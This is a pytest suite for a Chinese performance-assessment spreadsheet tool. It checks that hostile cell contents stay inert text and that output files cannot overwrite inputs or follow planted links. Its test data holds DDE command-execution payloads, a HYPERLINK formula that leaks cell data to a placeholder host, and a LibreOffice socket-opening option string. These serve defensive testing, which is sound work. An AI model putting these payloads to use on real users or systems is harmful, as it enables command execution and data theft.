"""Hostile data in what we write: formulas and error values stay text; file names made from data.

Every workbook we write is read back as XML: a cell holding one of the payloads must be a
string cell (``t="s"`` or ``t="inlineStr"``), no ``<f>`` element may carry a payload, and a
name such as ``#N/A`` is never an error cell (``t="e"``). The second part attacks the output
files themselves: names that are options or collide, outputs that would replace the source,
planted links, read-only folders, a full disk, Ctrl-C.
"""

from __future__ import annotations

import errno
import hashlib
import os
import re
import shutil
import signal
import stat
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from hostile_xlsx import Sheet, write_xlsx
from lxml import etree

from perf_excel.cli import main
from perf_excel.files import outputs

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
#: Unit names that openpyxl would store as error values.
ERROR_NAMES = ["#N/A", "#DIV/0!", "#REF!"]


def hostile_workbook(path: Path) -> Path:
    """Unit names and codes, categories, indicator names, reasons and settings are payloads."""
    header = ["编码", "维度", "指标名称", "分值", "计分方法", "目标值"]
    units = [["编码", "名称", "类别"]]
    data = [["单位编码", "A1", "A2"]]
    for k, p in enumerate(PAYLOADS):
        units.append([f"U{k}", p, "=类别" if k % 2 else "区县"])
        data.append([f"U{k}", 90 + k, 80])
    units.append(["=CODE()", "单位=", "区县"])
    data.append(["=CODE()", 70, 75])
    for k, name in enumerate(ERROR_NAMES):
        units.append([f"E{k}", name, "区县"])
        data.append([f"E{k}", 60 + k, 70])
    return write_xlsx(
        path,
        [
            Sheet("设置", [["项目", "值"], ["考核名称", "=2025年度考核"], ["考核年度", 2025], ["发文机关", "+机关"]]),
            Sheet(
                "指标",
                [
                    header,
                    ["A1", "=维度", PAYLOADS[0], 60, "完成比例", 100],
                    ["A2", "-维度", "@指标", 40, "完成比例", 100],
                ],
            ),
            Sheet("单位", units),
            Sheet("数据", data),
            Sheet("加减分", [["单位编码", "类型", "分值", "事由"], ["U1", "加分", 1, PAYLOADS[1]]]),
            Sheet("否决", [["单位编码", "事项", "事由"], ["U2", "=事项", PAYLOADS[2]]]),
        ],
    )


def _shared_strings(z: zipfile.ZipFile) -> list[str]:
    names = [n for n in z.namelist() if n.endswith("sharedStrings.xml")]
    if not names:
        return []
    root = etree.fromstring(z.read(names[0]))
    return ["".join(si.itertext()) for si in root.findall("m:si", NS)]


def cells(path: Path) -> list[tuple[str, str, str | None, str, str | None]]:
    """Every cell of every worksheet: (part, ref, type, text, formula)."""
    out = []
    with zipfile.ZipFile(path) as z:
        shared = _shared_strings(z)
        for name in z.namelist():
            if not re.match(r"xl/worksheets/sheet\d+\.xml$", name):
                continue
            root = etree.fromstring(z.read(name))
            for c in root.iter(f"{{{NS['m']}}}c"):
                t = c.get("t")
                f = c.find("m:f", NS)
                v = c.find("m:v", NS)
                if t == "inlineStr":
                    inline = c.find("m:is", NS)
                    text = "".join(inline.itertext()) if inline is not None else ""
                elif t == "s" and v is not None:
                    text = shared[int(v.text)]
                else:
                    text = v.text if v is not None and v.text else ""
                out.append((name, c.get("r"), t, text, f.text if f is not None else None))
    return out


def assert_no_injection(path: Path, must_contain: list[str]) -> None:
    found = cells(path)
    formulas = [(p, r, f) for p, r, _, _, f in found if f is not None]
    assert formulas == [], f"{path.name}: formulas written: {formulas[:5]}"
    errors = [(p, r, text) for p, r, t, text, _ in found if t == "e"]
    assert errors == [], f"{path.name}: error values written: {errors[:5]}"
    for part, ref, t, text, _ in found:
        if text.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(r"-?[\d.]+(E[-+]?\d+)?", text):
            assert t in ("s", "inlineStr"), f"{path.name} {part} {ref}: {text!r} written as type {t!r}"
    texts = {text for *_, text, _ in found}
    # The texts may sit inside longer cells (an explanation), so look in every text.
    joined = "\n".join(texts)
    for payload in must_contain:
        assert payload.replace("\r", "") in joined.replace("\r", "") or payload in joined, f"{payload!r} not written"


@pytest.fixture()
def hostile(tmp_path: Path) -> Path:
    folder = tmp_path / "in"
    folder.mkdir()
    return hostile_workbook(folder / "考核表.xlsx")


def test_results_workbook(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "结果.xlsx"
    assert main(["score", str(hostile), "-o", str(out)]) == 0
    assert_no_injection(out, PAYLOADS[:4] + ["=CODE()", "=类别", *ERROR_NAMES])


def test_write_back(hostile: Path) -> None:
    assert main(["score", str(hostile), "--write-back"]) == 0
    assert_no_injection(hostile, PAYLOADS[:4] + ["=CODE()", *ERROR_NAMES])


def test_batch_summary(hostile: Path, tmp_path: Path) -> None:
    folder = hostile.parent
    (folder / "=HYPERLINK(1).xlsx").write_bytes(hostile.read_bytes())
    (folder / "-2+3.xlsx").write_bytes(b"PK\x03\x04 broken")  # a failure whose reason quotes the name
    (folder / "#NULL!").write_bytes(b"PK\x03\x04 broken")
    out = tmp_path / "out"
    main(["batch", str(folder), "-o", str(out), "--results-only", "-j", "1", "-q"])
    assert_no_injection(out / "batch-summary.xlsx", ["=HYPERLINK(1).xlsx", "-2+3.xlsx"])
    for results in out.rglob("结果.xlsx"):
        assert_no_injection(results, [*PAYLOADS[:2], *ERROR_NAMES])


def test_yearbook(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "年鉴"
    assert main(["yearbook", str(hostile), "-o", str(out)]) == 0
    (xlsx,) = out.glob("*.xlsx")
    assert_no_injection(xlsx, [*PAYLOADS[:4], *ERROR_NAMES])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell(tmp_path: Path, payload: str) -> None:
    from openpyxl import Workbook

    from perf_excel.xlsx.sanitize import safe_cell

    wb = Workbook(write_only=True)
    ws = wb.create_sheet("x")
    ws.append([safe_cell(ws, payload), safe_cell(ws, "控制\x01字符"), safe_cell(ws, "#N/A")])
    wb.save(tmp_path / "x.xlsx")
    (a, b, c) = cells(tmp_path / "x.xlsx")
    assert (a[2], a[4]) == ("inlineStr", None)
    assert (c[2], c[3]) == ("inlineStr", "#N/A")
    assert a[3].replace("\r", "") == payload.replace("\r", "") or a[3] == payload
    assert b[3] == "控制字符"


# =========================================================================== output files
# File names made from data, outputs that would replace an input, planted links, modes,
# read-only folders, a full disk and Ctrl-C. Expected messages are the product's wording.


ROOT = Path(__file__).resolve().parents[1]
DEMO = ROOT / "workbooks" / "demo_city_2025.xlsx"
CORPUS = Path(__file__).parent / "data" / "malicious"
OPTION_TITLE = "--accept=socket,host=0,port=2002;urp;"
OPTION_BULLETIN = f"_{OPTION_TITLE}结果通报"


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture()
def book(tmp_path: Path) -> Path:
    folder = tmp_path / "in"
    folder.mkdir()
    return Path(shutil.copy(DEMO, folder / "WB.xlsx"))


# --- the results workbook must never replace the source ----------------------------------


@pytest.mark.parametrize("output", ["WB.xlsm", "WB", "WB.xlsx", "./WB.XLSM"])
def test_score_output_resolving_to_the_source_is_refused(
    book: Path, output: str, capsys: pytest.CaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(book.parent)
    before = digest(book)
    assert main(["score", str(book), "-o", output]) == 2
    err = capsys.readouterr().err
    target = Path(output).with_suffix(".xlsx") if Path(output).suffix else Path(output + ".xlsx")
    assert err == (
        f"用法错误：WB.xlsx：-o 不能指向源工作簿本身（结果会写到 {target}，即源工作簿，会覆盖数据）；要写回源工作簿请用 --write-back\n"
    )
    assert digest(book) == before
    assert sorted(p.name for p in book.parent.iterdir()) == ["WB.xlsx"]


def test_score_output_through_links_to_the_source_or_its_backup_is_refused(
    book: Path, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    before = digest(book)
    (tmp_path / "link.xlsx").symlink_to(book)
    assert main(["score", str(book), "-o", str(tmp_path / "link.xlsx")]) == 2
    assert "-o 不能指向源工作簿本身" in capsys.readouterr().err
    os.link(book, tmp_path / "hard.xlsx")
    assert main(["score", str(book), "-o", str(tmp_path / "hard.xlsx")]) == 2
    assert "-o 不能指向源工作簿本身" in capsys.readouterr().err
    # The backup that --write-back keeps (not there yet: a dangling link).
    (tmp_path / "bak.xlsx").symlink_to(book.with_name("WB.xlsx.bak"))
    assert main(["score", str(book), "-o", str(tmp_path / "bak.xlsx")]) == 2
    assert capsys.readouterr().err == (
        f"用法错误：WB.xlsx：-o 不能指向源工作簿的备份 WB.xlsx.bak（结果会写到 {tmp_path / 'bak.xlsx'}）\n"
    )
    previous = Path(shutil.copy(DEMO, tmp_path / "上年.xlsx"))
    assert main(["score", str(book), "--previous", str(previous), "-o", str(tmp_path / "上年.xlsm")]) == 2
    assert capsys.readouterr().err == (
        f"用法错误：WB.xlsx：-o 不能指向上年度工作簿 上年.xlsx（结果会写到 {tmp_path / '上年.xlsx'}）\n"
    )
    assert digest(book) == before and digest(previous) == digest(DEMO)
    assert not book.with_name("WB.xlsx.bak").exists()


def test_yearbook_named_like_its_source_does_not_replace_it(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    out = tmp_path / "out"
    out.mkdir()
    # The yearbook of 2025 is called 绩效考核结果年鉴（2025年）.xlsx: so is the source here.
    source = Path(shutil.copy(DEMO, out / "绩效考核结果年鉴（2025年）.xlsx"))
    assert main(["yearbook", str(source), "-o", str(out)]) == 1
    err = capsys.readouterr().err
    assert err.endswith(
        f"{source}：这是输入文件 绩效考核结果年鉴（2025年）.xlsx，不能作为输出，已停止（该文件未改动）；请换一个输出位置\n"
    )
    assert digest(source) == digest(DEMO)


def test_report_never_replaces_its_template(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    out = tmp_path / "out"
    out.mkdir()
    template = Path(shutil.copy(ROOT / "templates" / "bulletin.docx", out / "2025年度全市综合绩效考核结果通报.docx"))
    before = digest(template)
    assert main(["report", str(DEMO), "-o", str(out), "--template", str(template)]) == 1
    assert capsys.readouterr().err.endswith(
        f"{template}：这是输入文件 {template.name}，不能作为输出，已停止（该文件未改动）；请换一个输出位置\n"
    )
    assert digest(template) == before


# --- names made from data ----------------------------------------------------------------


def test_colliding_unit_names_each_get_their_letter(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    out = tmp_path / "out"
    assert main(["report", str(CORPUS / "unit_names_collide.xlsx"), "-o", str(out), "--letters", "--no-chart"]) == 0
    assert f"反馈单已写入：{out / '反馈单'}（7 份）" in capsys.readouterr().out

    def h(key: str) -> str:
        return hashlib.sha1(key.encode()).hexdigest()[:6]

    assert sorted(p.name for p in (out / "反馈单").iterdir()) == sorted(
        [
            "A_1_甲单位_反馈单.docx",  # A:1
            "A1_甲单位_反馈单.docx",
            f"A_1_甲单位_反馈单~{h('A_1')}.docx",
            f"a_1_甲单位_反馈单~{h('a_1')}.docx",  # differs only in case
            f"A_1_甲单位_反馈单~{h('A/1')}.docx",
            "U6_#N_A_反馈单.docx",
            "U7_乙xcod.exe_反馈单.docx",  # bidi override and zero-width space dropped
        ]
    )


def test_letters_counted_must_be_letters_written(tmp_path: Path, monkeypatch, capsys: pytest.CaptureFixture) -> None:
    # A naming slip that gave two units one file must stop the run, not lose a letter.
    monkeypatch.setattr(outputs.UniqueNames, "claim", lambda self, name, suffix="", key=None: "同名.docx")
    out = tmp_path / "out"
    assert main(["report", str(CORPUS / "unit_names_collide.xlsx"), "-o", str(out), "--letters", "--no-chart"]) == 1
    assert capsys.readouterr().err.endswith(
        f"{out / '反馈单'}：内部错误：7 个单位只写出了 1 份不同的反馈单，请将此工作簿反馈给维护人员\n"
    )


def test_long_names_are_cut_to_the_byte_budget(tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert main(["report", str(CORPUS / "names_long.xlsx"), "-o", str(out), "--letters", "--merged", "--no-chart"]) == 0
    files = [p for p in out.rglob("*") if p.is_file()]
    assert len(files) == 5  # bulletin, three letters, the merged letters
    assert all(len(p.name.encode()) <= 150 for p in files), [p.name for p in files]
    assert len({p.name for p in files}) == 5


def _fake_soffice(tmp_path: Path, body: str) -> Path:
    script = tmp_path / "fake-soffice"
    script.write_text("#!/bin/sh\n" + body)
    script.chmod(0o755)
    return script


def test_pdf_documents_reach_soffice_as_our_own_absolute_names(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
) -> None:
    log = tmp_path / "argv.txt"
    soffice = _fake_soffice(
        tmp_path,
        'printf "%s\\n" "$@" > "$ARGV_LOG"\n'
        'prev=""; for a in "$@"; do [ "$prev" = "--outdir" ] && outdir="$a"; prev="$a"; done\n'
        'mkdir -p "$outdir"\n'
        'for a in "$@"; do case "$a" in /*.docx) echo pdf > "$outdir/$(basename "$a" .docx).pdf";; esac; done\n',
    )
    monkeypatch.setenv("PERF_EXCEL_SOFFICE", str(soffice))
    monkeypatch.setenv("ARGV_LOG", str(log))
    out = tmp_path / "out"
    assert main(["report", str(CORPUS / "title_option.xlsx"), "-o", str(out), "--letters", "--pdf", "--no-chart"]) == 0
    argv = log.read_text().splitlines()
    assert not any(a.startswith("--accept") for a in argv)
    assert re.fullmatch(r"-env:UserInstallation=file:///.+/profile", argv[0]), argv[0]
    docs = argv[argv.index("--outdir") + 2 :]
    assert len(docs) == 3 and all(re.fullmatch(r"/.+/in/doc-000[123]\.docx", d) for d in docs), docs
    assert sorted(p.name for p in (out / "PDF").iterdir()) == sorted(
        [f"{OPTION_BULLETIN}.pdf", "U1_甲单位_反馈单.pdf", "U2_乙单位_反馈单.pdf"]
    )


def test_pdf_timeout_kills_the_whole_soffice_group(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from perf_excel.documents.pdf import to_pdf

    pids = tmp_path / "pids"
    soffice = _fake_soffice(tmp_path, f'sleep 60 &\necho $! > "{pids}"\nwait\n')
    monkeypatch.setenv("PERF_EXCEL_SOFFICE", str(soffice))
    doc = tmp_path / "a.docx"
    doc.write_bytes(b"x")
    with pytest.raises(outputs.OutputError) as exc:
        to_pdf([doc], tmp_path / "PDF", timeout=1)
    assert exc.value.message == "LibreOffice 转换 PDF 超时（1 秒）"
    child = int(pids.read_text())
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        try:
            os.kill(child, 0)
        except ProcessLookupError:
            break
        time.sleep(0.05)
    else:
        pytest.fail("soffice's child survived the timeout")
    assert list((tmp_path / "PDF").iterdir()) == []


def test_real_libreoffice_with_an_option_title_and_stale_lock_files(tmp_path: Path) -> None:
    # A kill during an earlier `report --pdf` left LibreOffice lock files in the output folders.
    out = tmp_path / "out"
    (out / "PDF").mkdir(parents=True)
    (out / f".~lock.{OPTION_BULLETIN}.docx#").write_text("killed,host,/home/x;1234;")
    (out / "PDF" / f".~lock.{OPTION_BULLETIN}.pdf#").write_text("killed,host,/home/x;1234;")
    code, text = _run_cli(["report", str(CORPUS / "title_option.xlsx"), "-o", str(out), "--pdf"], cwd=tmp_path)
    assert code == 0, text
    pdf = out / "PDF" / f"{OPTION_BULLETIN}.pdf"
    assert pdf.read_bytes().startswith(b"%PDF")
    assert sorted(p.name for p in out.iterdir()) == sorted(
        [f".~lock.{OPTION_BULLETIN}.docx#", f"{OPTION_BULLETIN}.docx", "PDF"]
    )
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]  # nothing beside it


def _run_cli(argv: list[str], cwd: Path | None = None) -> tuple[int, str]:
    proc = subprocess.run(
        [sys.executable, "-m", "perf_excel.cli", *argv],
        capture_output=True,
        text=True,
        cwd=cwd,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )
    return proc.returncode, proc.stdout + proc.stderr


# --- modes -------------------------------------------------------------------------------


def test_write_back_keeps_the_mode_and_refuses_a_read_only_workbook(book: Path, capsys, umask_022) -> None:
    book.chmod(0o640)
    assert main(["score", str(book), "--write-back"]) == 0
    capsys.readouterr()
    backup = book.with_name("WB.xlsx.bak")
    assert stat.S_IMODE(book.stat().st_mode) == 0o640 and stat.S_IMODE(backup.stat().st_mode) == 0o640
    book.chmod(0o444)
    before, bak_before = digest(book), digest(backup)
    assert main(["score", str(book), "--write-back"]) == 1
    assert capsys.readouterr().err.endswith(
        f"{book}：文件是只读的，未写回（如需写回，请先取消只读属性）；原文件未做任何改动\n"
    )
    assert digest(book) == before and digest(backup) == bak_before


def test_outputs_get_the_usual_mode(book: Path, tmp_path: Path, umask_022) -> None:
    assert main(["score", str(book), "-o", str(tmp_path / "结果.xlsx")]) == 0
    assert main(["report", str(book), "-o", str(tmp_path / "report"), "--letters", "--no-chart"]) == 0
    assert main(["batch", str(book.parent), "-o", str(tmp_path / "batch"), "--results-only", "-j", "1", "-q"]) == 0
    files = [tmp_path / "结果.xlsx", *(tmp_path / "report").rglob("*.docx"), *(tmp_path / "batch").rglob("*.*")]
    files = [p for p in files if p.is_file() and p.name != "lock"]
    assert len(files) > 30
    assert {oct(stat.S_IMODE(p.stat().st_mode)) for p in files} == {"0o644"}


# --- read-only folders, a full disk, errors at the boundary --------------------------------


@pytest.fixture()
def no_write_in(monkeypatch: pytest.MonkeyPatch):
    """Make folders read-only for us (tests run as root, for whom chmod does not stop writes)."""
    real = outputs.tempfile.mkstemp
    denied: list[Path] = []

    def mkstemp(*args, dir=None, **kwargs):
        if dir is not None and any(Path(dir) == d for d in denied):
            raise PermissionError(errno.EACCES, "Permission denied", str(dir))
        return real(*args, dir=dir, **kwargs)

    monkeypatch.setattr(outputs.tempfile, "mkstemp", mkstemp)
    return denied


def test_read_only_folder_is_named(book: Path, tmp_path: Path, no_write_in, capsys: pytest.CaptureFixture) -> None:
    folder = book.parent
    no_write_in.append(folder)
    before = digest(book)
    assert main(["score", str(book), "--write-back"]) == 1
    assert capsys.readouterr().err.endswith(
        f"{folder}：输出文件夹不可写（权限不足），未写出 WB.xlsx；原文件未做任何改动\n"
    )
    assert main(["score", str(book), "-o", str(folder / "结果.xlsx")]) == 1
    assert capsys.readouterr().err.endswith(f"{folder}：输出文件夹不可写（权限不足），未写出 结果.xlsx\n")
    assert main(["report", str(book), "-o", str(folder)]) == 1
    assert capsys.readouterr().err.endswith(
        f"{folder}：输出文件夹不可写（权限不足），未写出 2025年度全市综合绩效考核结果通报.docx\n"
    )
    assert main(["new", str(folder / "新.xlsx")]) == 1
    assert capsys.readouterr().err == f"{folder}：输出文件夹不可写（权限不足），未写出 新.xlsx\n"
    assert digest(book) == before
    assert sorted(p.name for p in folder.iterdir()) == ["WB.xlsx"]


def test_full_disk_leaves_no_half_written_file(
    book: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
) -> None:
    from perf_excel.xlsx import package

    out = tmp_path / "结果.xlsx"
    out.write_bytes(b"previous results")

    real_write = package.write_package

    def full(path, *args):
        real_write(path, *args)
        Path(path).write_bytes(Path(path).read_bytes()[:1000])  # the disk fills up half-way
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(package, "write_package", full)
    assert main(["score", str(book), "-o", str(out)]) == 1
    assert capsys.readouterr().err.endswith(f"{out}：写入失败（磁盘空间不足），未留下写了一半的文件\n")
    assert out.read_bytes() == b"previous results"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in", "结果.xlsx"]
    monkeypatch.undo()

    class HalfFile:
        def __init__(self, path, mode):
            self.fh = open(path, mode)  # noqa: SIM115

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self.fh.close()

        def write(self, data):
            self.fh.write(data[: len(data) // 2])
            raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(outputs, "open", HalfFile, raising=False)
    report = tmp_path / "report"
    assert main(["report", str(book), "-o", str(report)]) == 1
    bulletin = report / "2025年度全市综合绩效考核结果通报.docx"
    assert capsys.readouterr().err.endswith(f"{bulletin}：写入失败（磁盘空间不足），未留下写了一半的文件\n")
    assert list(report.iterdir()) == []


@pytest.mark.parametrize(
    ("raised", "code", "message"),
    [
        (
            PermissionError(errno.EACCES, "Permission denied", "/srv/out/x.xlsx"),
            1,
            "/srv/out/x.xlsx：无法读写（权限不足）",
        ),
        (OSError(errno.ENOSPC, "No space left on device", "/srv/out"), 1, "/srv/out：无法读写（磁盘空间不足）"),
        (KeyboardInterrupt(), 130, "已中断。"),
    ],
)
def test_errors_at_the_boundary(
    book: Path, monkeypatch, capsys, raised: BaseException, code: int, message: str
) -> None:
    from perf_excel.cli import score as cli_score

    def command(args):
        raise raised

    monkeypatch.setattr(cli_score, "run_score", command)
    assert main(["score", str(book)]) == code
    assert capsys.readouterr().err == message + "\n"


@pytest.mark.parametrize("delay", [0.05, 0.15, 0.4])
def test_ctrl_c_while_starting(delay: float) -> None:
    # As the perf-excel console script does; "ready" comes just before the package is imported
    # (a signal during the interpreter's own start-up, before any of our code, is Python's).
    code = (
        "import sys; sys.argv[0] = 'perf-excel'; print('ready', flush=True)\n"
        "from perf_excel.cli import main\n"
        "sys.exit(main())\n"
    )
    proc = subprocess.Popen(
        [sys.executable, "-c", code, "score", str(DEMO)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )
    assert proc.stdout.readline() == "ready\n"
    time.sleep(delay)
    proc.send_signal(signal.SIGINT)
    out, err = proc.communicate(timeout=60)
    assert (proc.returncode, err.splitlines()[-1:]) == (130, ["已中断。"]), err
    assert "Traceback" not in err


def test_templates_export_never_writes_through_a_planted_link(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_bytes(b"secret")
    out = tmp_path / "out"
    out.mkdir()
    (out / "bulletin.docx").symlink_to(victim)
    assert main(["templates", "export", str(out)]) == 1
    assert capsys.readouterr().err == f"{out / 'bulletin.docx'}：文件已存在，未覆盖（如需覆盖请加 --force）\n"
    assert main(["templates", "export", str(out), "--force"]) == 0
    assert victim.read_bytes() == b"secret"
    assert not (out / "bulletin.docx").is_symlink()
    assert (out / "bulletin.docx").read_bytes() == (ROOT / "templates" / "bulletin.docx").read_bytes()
